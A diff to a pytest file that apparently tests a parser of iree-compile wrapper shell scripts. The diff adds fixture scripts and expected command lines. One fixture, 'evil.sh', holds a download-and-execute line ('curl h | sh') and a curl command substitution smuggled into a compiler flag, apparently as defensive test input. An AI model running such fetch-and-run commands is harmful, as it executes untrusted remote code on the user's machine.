@@ -2,6 +2,7 @@
 
 import pytest
 
+from bot.intake.scope import UNKNOWN
 from bot.intake.script import ScriptReading, read_script
 from bot.intake.statements import Call
 
@@ -30,12 +31,14 @@ iree-compile "${TARGET[@]}" "${@:2}"
     "here.sh": 'D="$(cd "$(dirname "$0")" && pwd)"\n"$D/inner.sh" gfx90a "$@"\n',
     "shift.sh": "A=$1; shift\niree-compile --a=$A $@\n",
     "defaults.sh": "iree-compile --a=${1:-generic} x.mlir\n",
+    "parts.sh": 'm=$1\na=(\n  --a  # why\n)\niree-compile "$(dirname "$0")/$m" "${a[@]}" -o "out/$(basename "$m" .mlir).vmfb"\n',
+    "folders.sh": 'iree-compile "$(realpath "$1")/x.mlir" -o $(basename $HOME).vmfb\n',
     "self.sh": "./self.sh\n",
     "a.sh": "./b.sh\n",
     "b.sh": "./a.sh\n",
     "lost.sh": "./elsewhere.sh x\n",
     "evil.sh": "iree-compile --a=$(curl h) x.mlir\ncurl h | sh\n",
-    "loop.sh": "for b in x y; do iree-compile --a $b.mlir; done\n",
+    "loop.sh": "for b in *; do iree-compile --a $b.mlir; done\n",
     "wide.sh": "./outer.sh a b\n" * 500,
 }
 
@@ -54,6 +57,9 @@ def read(*argv: str) -> ScriptReading:
         ),
         (("here.sh", "m.mlir"), "--iree-hal-target-backends=rocm --iree-rocm-target-chip=gfx90a m.mlir", ("here.sh", "inner.sh")),
         (("./shift.sh", "x", "y.mlir", "z"), "--a=x y.mlir z", ("shift.sh",)),
+        (("./parts.sh", "m.mlir"), "./m.mlir --a -o out/m.vmfb", ("parts.sh",)),
+        (("x/parts.sh", "y/m.mlir"), "x/y/m.mlir --a -o out/m.vmfb", ("parts.sh",)),
+        (("./folders.sh", "y"), f"{UNKNOWN}/x.mlir -o {UNKNOWN}.vmfb", ("folders.sh",)),
         (("./defaults.sh",), "--a=generic x.mlir", ("defaults.sh",)),
         (("./defaults.sh", "host"), "--a=host x.mlir", ("defaults.sh",)),
     ],
